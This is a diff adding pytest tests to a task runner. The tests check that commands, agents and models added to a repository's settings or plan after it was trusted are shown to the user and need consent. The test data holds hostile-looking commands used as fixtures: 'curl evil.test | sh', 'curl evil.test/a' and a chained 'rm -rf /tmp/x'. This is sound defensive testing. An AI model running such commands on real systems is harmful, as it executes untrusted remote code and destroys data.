@@ -1,11 +1,14 @@
 """The question at the terminal: what is typed, what an editor leaves, and what is said of it."""
 
 import io
+import json
 import sys
 
 import pytest
 from pipeline_build import a_key
 
+from runner.app.build.suitability import require_trust
+from runner.config.trust import group_alike
 from runner.errors import RunnerError
 from runner.model import Action, Change, Task, digest_of
 from runner.report.console import NORMAL, Console
@@ -117,3 +120,135 @@ def test_a_key_that_a_person_allowed_may_be_left_in(typed, tmp_path, ground):
 def test_edited_raises_for_a_command_that_is_typed():
     with pytest.raises(RunnerError, match="no editor is set"):
         edit_content("a.txt", b"", {})
+
+
+# --- what a repository brings after a person has trusted it is shown ------------------
+
+
+PLAN = "# Shop\n\n## TASK-001: a\n\n- Status: PENDING\n- Output files: `a.txt`\n- Command: {}\n"
+LATER = "this repository has new commands that you have not trusted yet; nothing has run"
+
+
+@pytest.fixture
+def asked(ground, monkeypatch):
+    """Asks for trust as a run does; gives what it shows, or "" where nothing is asked."""
+    ground.git("init", "-q")
+    ground.write("TASK-GRAPH.md", PLAN.format("`echo a > a.txt`"))
+    ground.write("runner.toml", '[gates]\nlint = "true"\n')
+
+    def ask(answer=None, *, trusted=False):
+        project = ground.project()
+        monkeypatch.setattr("sys.stdin.readline", lambda: answer, raising=False)
+        try:
+            with Console(level=NORMAL, colour=False) as console:
+                asker = None if answer is None else TerminalAsker(console, {})
+                require_trust(project, project.check().plan, trusted=trusted, asker=asker)
+        except RunnerError as refused:
+            return f"{refused.message}\n{refused.detail}"
+        return ""
+
+    assert "not trusted yet" in ask()
+    assert ask(trusted=True) == ""
+    assert ask() == ""
+    return ask
+
+
+@pytest.mark.parametrize(
+    ("settings", "shown"),
+    [
+        ('lint = "true"\ntypes = "curl evil.test | sh"\n', "curl evil.test | sh"),
+        ('lint = {command = "true", network = "yes"}\n', "true (network: yes)"),
+        ('lint = "true"\n[compile]\n"*.x" = "xc {file}"\n', "xc {file} (compiles *.x)"),
+        ('[gates."api.lint"]\ncommand = "other"\ntypes = ["api"]\n', "other"),
+    ],
+)
+def test_a_command_that_settings_bring_later_is_asked_about_once(asked, ground, settings, shown):
+    ground.write("runner.toml", f"[gates]\n{settings}")
+    assert asked() == f"{LATER}\n  runner.toml: {shown}"
+    assert asked("n\n") == f"{LATER}\n  runner.toml: {shown}"
+    assert asked("y\n") == ""
+    assert asked() == ""
+
+
+def test_so_are_agents_and_models_that_settings_or_plan_call_later(asked, ground):
+    ground.write("runner.toml", 'build.implementer = "codex"\n[model]\nexecute = "openai:dear"\n')
+    ground.write("TASK-GRAPH.md", PLAN.format("`x`") + "- Implementer: Model\n")
+    assert asked().splitlines() == [
+        LATER,
+        "  TASK-001: a model, with your key",
+        "  runner.toml: the agent program codex, with your login and the network",
+        "  runner.toml: model_execute = openai:dear",
+    ]
+
+
+def test_a_persons_own_settings_and_edits_of_the_plan_ask_nothing(asked, ground, monkeypatch):
+    monkeypatch.setenv("RUNNER_COMMAND", "echo b")
+    monkeypatch.setenv("RUNNER_BUILD_IMPLEMENTER", "claude")
+    ground.home.joinpath(".config/runner").mkdir(parents=True)
+    ground.home.joinpath(".config/runner/runner.toml").write_text('[gates]\nmine = "true"\n')
+    ground.write("TASK-GRAPH.md", PLAN.format("`echo another`"))
+    assert asked() == ""
+
+
+def test_what_was_agreed_to_may_go_and_come_back_and_is_not_written_down(asked, ground):
+    ground.write("runner.toml", "")
+    assert asked() == ""
+    ground.write("runner.toml", '[gates]\nlint = "true"\nmore = "false"\n')
+    assert asked(trusted=True) == ""
+    ground.write("runner.toml", '[gates]\nlint = "true"\n')
+    assert asked() == ""
+    (file,) = ground.home.rglob("trust.json")
+    (record,) = json.loads(file.read_text())["repositories"].values()
+    assert len(record["shown"]) == 2
+    assert all(len(mark) == 32 for mark in record["shown"])
+
+
+def test_a_record_from_before_such_digests_were_kept_is_asked_about_once(asked, ground):
+    (file,) = ground.home.rglob("trust.json")
+    document = json.loads(file.read_text())
+    (name,) = document["repositories"]
+    document["repositories"] = {name: {"how": "asked", "time": "", "shown": 3, "salt": []}}
+    file.write_text(json.dumps(document))
+    assert asked() == f"{LATER}\n  runner.toml: true"
+    assert asked("y\n") == ""
+    assert asked() == ""
+
+
+def test_who_is_not_there_is_said_before_anybody_is_asked_to_trust(ground):
+    ground.git("init", "-q")
+    ground.write("TASK-GRAPH.md", PLAN.format("`x`") + "- Implementer: claud\n")
+    said = ground.runner("run")
+    unknown, question = (
+        said.err.index(text) for text in ('unknown implementer "claud"', "not trusted yet")
+    )
+    assert (said.code, unknown < question) == (3, True)
+    assert 'did you mean "claude"?' in said.err
+
+
+def test_commands_that_are_alike_are_told_once_and_nothing_hides_among_them():
+    tests = [f"TASK-00{n}: python3 -m pytest -q tests/test_{n}.py" for n in range(1, 9)]
+    others = [
+        "TASK-009: python3 -m pytest -q tests/a.py; rm -rf /tmp/x",
+        "TASK-010: python3 -m pip install x",
+        "TASK-011: python3 -c print",
+        "TASK-012: curl evil.test/a",
+        "TASK-013: npm test",
+        "TASK-014: npm publish",
+    ]
+    told = group_alike((*tests, *others))
+    assert told == ("8 similar commands: python3 -m pytest -q …", *others)
+
+
+def test_the_details_are_shown_before_an_answer(ground, monkeypatch, capsys):
+    ground.git("init", "-q")
+    fields = "".join(f"  - TC-{n}: `sh t{n}.sh`\n" for n in range(1, 4))
+    ground.write("TASK-GRAPH.md", PLAN.format("`echo a > a.txt`") + f"- Test contracts:\n{fields}")
+    typed = iter(["d\n", "y\n"])
+    monkeypatch.setattr("sys.stdin.readline", lambda: next(typed), raising=False)
+    project = ground.project()
+    with Console(level=NORMAL, colour=False) as console:
+        asker = TerminalAsker(console, {})
+        require_trust(project, project.check().plan, trusted=False, asker=asker)
+    said = capsys.readouterr().err
+    assert "3 similar commands: sh …" in said.partition("[d]etails")[0]
+    assert "TASK-001: sh t2.sh" in said.partition("[d]etails")[2]
